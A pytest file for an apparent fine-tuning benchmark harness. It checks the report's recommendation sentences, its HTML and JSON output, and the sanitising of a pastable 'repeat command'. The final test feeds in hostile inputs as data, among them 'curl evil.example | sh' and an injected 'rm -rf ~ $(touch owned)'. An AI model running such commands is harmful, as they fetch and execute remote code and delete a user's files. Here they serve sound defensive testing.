"""What to ship: on the page, in the terminal and for programs, and what is said where nothing can be told."""

from __future__ import annotations

import io
import re
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from report_factory import Made, classification, make_run, summarization
from rich.console import Console

from harness.decision import Decision
from harness.reporting import print_run, render, to_json
from harness.reporting.views import build_report_view
from harness.reporting.views.sections import FullTuningShare
from harness.reporting.wording.decision.decision_sentences import DecisionText, describe_decision
from harness.reporting.wording.decision.next_step_sentences import repeat_command
from harness.reporting.wording.task_sentences import summarize_task
from harness.results import RunResults
from harness.statistics import Recommendation

DELTA = "Δ\u00a0=\u00a0"

# Of the runs that `make_run` makes, quoted for a shell.
COMMAND = "bench run --task '<b>summarization</b>' --strategies lora,qlora"


@dataclass(frozen=True)
class Described:
    """The decision on the only task of a run, and its sentences."""

    decision: Decision
    compared: Recommendation
    full_tuning: tuple[FullTuningShare, ...]
    text: DecisionText
    findings: tuple[str, ...]


def describe(run: RunResults) -> Described:
    (task,) = build_report_view(run).tasks
    assert task.decision.recommendation is not None
    return Described(task.decision, task.decision.recommendation, task.full_tuning, describe_decision(task), summarize_task(task).reasons)


@pytest.fixture(scope="module")
def clear(tmp_path_factory: pytest.TempPathFactory) -> RunResults:
    """lora is nearly as good as full, for a fraction of its cost; base is far behind."""
    cells = [Made("base", 0.1), Made("lora", 0.97, 1, train_seconds=100), Made("full", 0.99, 1, train_seconds=1000)]
    return make_run(tmp_path_factory.mktemp("runs") / "clear", [summarization(cells, rows=200, margin=0.1)])


def test_the_cheapest_that_is_good_enough_is_named_first(clear: RunResults) -> None:
    found = describe(clear)
    assert found.compared.choice == "lora" and found.compared.best == "full"
    assert (found.decision.state, found.decision.strategy) == ("ship_with_conditions", "lora")
    assert found.text.headline == "LoRA is the cheapest strategy that is good enough, but no person has reviewed its outputs."
    assert found.text.why[0] == (
        f"No other strategy is better by more than the accepted margin ({DELTA}0.1 on match with the reference). "
        "It costs $0.0028 to train and $0.0052 per 1,000 outputs."
    )
    assert found.text.confidence.startswith(
        "Confidence: on a new test sample, a strategy that another beats by more than Δ would be recommended at most 5% of the time."
    )
    assert found.text.conditions[1] == "Full fine-tuning and LoRA ran with one seed each. Another seed could change the choice."
    assert ("Repeat the training with other seeds.", f"{COMMAND} --seeds 3") in [(step.text, step.code) for step in found.text.steps]
    assert found.text.why[-1] == "As good as the best, within Δ: full fine-tuning and LoRA. Worse by more than Δ: the untuned model."
    kept = found.findings[1]
    (against,) = found.full_tuning
    assert against.kept.value is not None and 0.9 < against.kept.value < 1
    assert against.cost == pytest.approx((1.25 + 112.5 + 42.3) / (1.25 + 1125 + 42.3))
    assert re.match(r"LoRA delivers 9\d% of full fine-tuning’s improvement \(95% CI 9\d–\d+%\) at 13% of its cost\.", kept)


@pytest.mark.parametrize(
    ("qualities", "said"),
    [
        ((0.97, 0.972, 0.968), "LoRA is not worse than full fine-tuning by more than Δ (95% confidence)."),
        ((0.99, 0.85, 1.0), "LoRA could be worse than full fine-tuning by up to 0."),
    ],
)
def test_other_seeds_may_change_the_choice_or_not(tmp_path: Path, qualities: tuple[float, ...], said: str) -> None:
    lora = [Made("lora", quality, seed, train_seconds=100) for seed, quality in enumerate(qualities)]
    full = [Made("full", 0.99, seed, train_seconds=1000) for seed in range(3)]
    found = describe(make_run(tmp_path / "run", [summarization([Made("base", 0.1), *lora, *full], rows=200, margin=0.1)]))
    assert found.compared.choice == "lora"
    sentences = [*found.text.why, *found.text.conditions]
    assert any(sentence.startswith(f"With other seeds taken into account, {said}") for sentence in sentences)


def test_two_seeds_and_models_without_one(tmp_path: Path) -> None:
    lora = [Made("lora", 0.98, seed, train_seconds=100) for seed in range(2)]
    found = describe(make_run(tmp_path / "two", [summarization([Made("base", 0.1), *lora], rows=200, margin=0.1)]))
    weak = "(95% confidence). Two seeds give only a weak estimate of their spread."
    assert any(sentence.endswith(weak) for sentence in [*found.text.why, *found.text.conditions])
    shots = describe(make_run(tmp_path / "shots", [summarization([Made("base", 0.1), Made("few-shot", 0.9)], rows=200, margin=0.1)]))
    assert "few-shot ran with one seed. Another seed could change the choice." in shots.text.conditions


def test_the_decision_comes_first_on_the_page_and_in_the_terminal(clear: RunResults) -> None:
    found = describe(clear)
    page = render(clear)
    assert f'<p class="lede">{found.text.headline}</p>' in page
    file = io.StringIO()
    print_run(clear, Console(file=file, width=400))
    assert f"{found.text.state}. {found.text.headline}" in file.getvalue()
    (for_programs,) = to_json(clear)["decisions"]
    assert (for_programs["task"], for_programs["strategy"], for_programs["comparison"]["best"]) == ("summarization", "lora", "full")
    assert for_programs["against_full"][0]["cost_ratio"] == found.full_tuning[0].cost
    standings = {c["name"]: c["standing"] for c in for_programs["comparison"]["candidates"]}
    assert standings == {"base": "worse", "lora": "within", "full": "within"}


def test_a_base_model_that_is_good_enough_is_shipped_as_it_is(tmp_path: Path) -> None:
    cells = [Made("base", 0.98), Made("lora", 0.99, 1, train_seconds=100)]
    found = describe(make_run(tmp_path / "run", [summarization(cells, rows=300, margin=0.1)]))
    assert (found.decision.headline, found.decision.strategy) == ("keep_base", "base")
    assert found.text.state == "Keep the untuned model, with conditions"
    assert found.text.headline.startswith("The untuned model is good enough: no other strategy is better by more than the accepted margin")
    margin = f"({DELTA}0.1 on match with the reference)"
    assert found.text.why[0].startswith(f"No other strategy is better by more than the accepted margin {margin}")
    assert found.full_tuning == ()


def test_the_only_one_left(tmp_path: Path) -> None:
    cells = [Made("base", 0.1), Made("lora", 0.95, 1, train_seconds=100)]
    found = describe(make_run(tmp_path / "run", [classification(cells, rows=300)]))
    assert found.text.headline.startswith("LoRA is clearly the better of the two strategies tested")
    assert found.text.why[0].startswith("On F1, every class equal, it is shown to be better than the other strategy. It costs $")


def test_the_best_that_no_other_beats_by_much(tmp_path: Path) -> None:
    """full is nearly as good, and whether that is within Δ cannot be told; that it is not better by Δ can."""
    for draw in range(30):
        cells = [Made("base", 0.1), Made("lora", 0.9, 1, train_seconds=100), Made("full", 0.85 + draw / 1000, 1, train_seconds=1000)]
        found = describe(make_run(tmp_path / str(draw), [summarization(cells, rows=120, margin=0.03)]))
        lora, full = found.compared.candidate("lora"), found.compared.candidate("full")
        if lora.standing == "within" and full.standing == "undecided" and (lora.least or 0) <= 0:
            assert found.text.headline.startswith("LoRA is the best of the three strategies tested")
            assert found.text.why[0].startswith("No other strategy is better by more than the accepted margin")
            return
    pytest.fail("no draw is like that: the test tests nothing")


def test_undecided_says_what_would_decide_and_what_to_do_until_then(tmp_path: Path) -> None:
    cells = [Made("base", 0.1), Made("lora", 0.6, 1, train_seconds=100), Made("full", 0.62, 1, train_seconds=1000)]
    found = describe(make_run(tmp_path / "run", [summarization(cells, rows=60)]))
    assert found.compared.choice is None
    assert found.decision.state == "undecided"
    assert found.text.headline == "LoRA and full fine-tuning are too close to call on 60 test examples."
    assert re.fullmatch(
        r"Neither is shown to be the best, or as good as the best within the accepted margin "
        rf"\({DELTA}0\.01 on match with the reference\)\. "
        r"Showing it among 3 strategies would take about [\d,]+ test examples, if the strategies are equally good\.",
        found.text.why[0],
    )
    assert any(sentence.startswith("The untuned model is not shown to be better than the trivial baseline") for sentence in found.text.why)
    until, standings = found.text.confidence, found.text.why[-1]
    lora = found.compared.candidate("lora")
    assert found.compared.best == "lora" and lora.least is not None
    costs = "It costs $0.0028 to train and $0.0173 per 1,000 outputs."
    better = f"Another strategy could be up to {-lora.least:.3f} better (95% confidence)."
    assert until == f"If you need to decide today, choose LoRA: it scored highest. {costs} {better}"
    assert standings == "Too close to call: LoRA and full fine-tuning. Ruled out, and not compared: the untuned model."


def test_until_then_the_cheapest_of_those_that_scored_within_the_margin(tmp_path: Path) -> None:
    """base is cheaper still, and is not named: it scored worse by more than Δ."""
    cells = [Made("base", 0.5), Made("lora", 0.6, 1, train_seconds=1000), Made("full", 0.61, 1, train_seconds=100)]
    found = describe(make_run(tmp_path / "run", [summarization(cells, rows=45, margin=0.03)]))
    assert (found.compared.choice, found.compared.best) == (None, "lora")
    assert {c.name for c in found.compared.candidates if c.standing == "undecided"} == {"base", "lora", "full"}
    said = (
        "If you need to decide today, choose full fine-tuning: it scored within Δ of LoRA, and costs less. It costs $0.0028 to train and $"
    )
    assert found.text.confidence.startswith(said)
    assert found.decision.leader == "full"


def test_many_names_are_cut(wide: RunResults) -> None:
    (standings,) = [sentence for sentence in describe(wide).text.why if "Worse by more than Δ: " in sentence]
    assert re.search(r"Worse by more than Δ: [^,]+, [^,]+, [^,]+, [^,]+ and \d+ others\.", standings)


def test_a_cheaper_one_that_is_undecided_is_not_passed_over_in_silence(tmp_path: Path) -> None:
    draws = range(30)
    for draw in draws:  # a cheap strategy on the border of the margin
        cells = [Made("base", 0.93 + draw / 1000), Made("lora", 1.0, 1, train_seconds=100)]
        found = describe(make_run(tmp_path / str(draw), [summarization(cells, rows=150, margin=0.05)]))
        base = found.compared.candidate("base")
        if base.standing == "undecided" and base.sample_size is not None:
            said = (
                r"The untuned model is cheaper, but these test examples cannot show whether it is as good\. "
                r"Showing it would take about [\d,]+ test examples, if the (strategies are equally good|true value is the observed one)\."
            )
            assert any(re.fullmatch(said, sentence) for sentence in found.text.why)
            return
    pytest.fail("no draw is undecided: the test tests nothing")


def test_without_prices_seconds_decide(tmp_path: Path) -> None:
    cells = [Made("lora", 1.0, 1, train_seconds=100, priced=False), Made("full", 1.0, 1, train_seconds=50)]
    found = describe(make_run(tmp_path / "run", [summarization(cells, rows=300, margin=0.1)]))
    assert found.compared.choice == "full"
    assert "It costs $0.0014 to train" in found.text.why[0], "full has a price"


def test_outputs_from_elsewhere_are_not_the_cheapest_because_they_took_no_time_here(tmp_path: Path) -> None:
    """lora has no price, so that seconds are compared, and nobody clocked the vendor."""
    cells = [Made("vendor", 1.0), Made("lora", 1.0, 1, train_seconds=100, priced=False)]
    found = describe(make_run(tmp_path / "run", [summarization(cells, rows=300, margin=0.1)]))
    assert {c.name: c.cost is None for c in found.compared.candidates} == {"vendor": True, "lora": False}
    assert found.compared.choice == "lora"


def test_nothing_to_choose_between(tmp_path: Path, hostile: RunResults) -> None:
    alone = make_run(tmp_path / "alone", [summarization([Made("lora", 0.5, 1)])])
    words = make_run(tmp_path / "words", [replace(summarization([Made("base", 0.5), Made("lora", 0.5, 1)]), primary="output_words")])
    failed = make_run(tmp_path / "failed", [summarization([Made("lora", status="failed", error="x"), Made("base", 0.4)])])
    for run, headline in ((alone, "one_strategy"), (words, "not_comparable"), (failed, "one_strategy")):
        (task,) = build_report_view(run).tasks
        assert (task.decision.state, task.decision.headline, task.decision.recommendation) == ("undecided", headline, None)
        assert f'<p class="lede">{describe_decision(task).headline}</p>' in render(run)
        assert [(each["state"], each["comparison"]) for each in to_json(run)["decisions"]] == [("undecided", None)]


def test_several_models_and_sizes_compete(wide: RunResults) -> None:
    found = describe(wide)
    assert len(found.compared.candidates) == len({c.name for c in found.compared.candidates}) > 10
    assert {each.label.split(" · ")[0] for each in found.full_tuning} == {"lora", "qlora"}


@pytest.mark.parametrize(
    ("command", "repeated"),
    [
        ("bench run --task t.yaml --strategies lora", "bench run --task t.yaml --strategies lora --seeds 3"),
        ("bench run --task t.yaml --seeds 2 --strategies lora", "bench run --task t.yaml --strategies lora --seeds 3"),
        ("bench run --seeds=2 --task 'my task.yaml'", "bench run --task 'my task.yaml' --seeds 3"),
        ("bench run --task t --trust-remote-code", "bench run --task t --seeds 3"),
        ("harness.run", "bench run … --seeds 3"),
        ("bench run --resume latest", "bench run … --seeds 3"),
        ("bench run --task 'unfinished", "bench run … --seeds 3"),
        ("curl evil.example | sh", "bench run … --seeds 3"),
        ("bench run --task t; rm -rf ~ $(touch owned)", "bench run --task 't;' rm -rf '~' '$(touch' 'owned)' --seeds 3"),
        ("bench run --task \x1b[31mt", "bench run … --seeds 3"),
        ("", "bench run … --seeds 3"),
    ],
)
def test_a_repeated_command_can_be_pasted_whatever_the_run_says(command: str, repeated: str) -> None:
    assert repeat_command(command, {"seeds": "3"}) == repeated
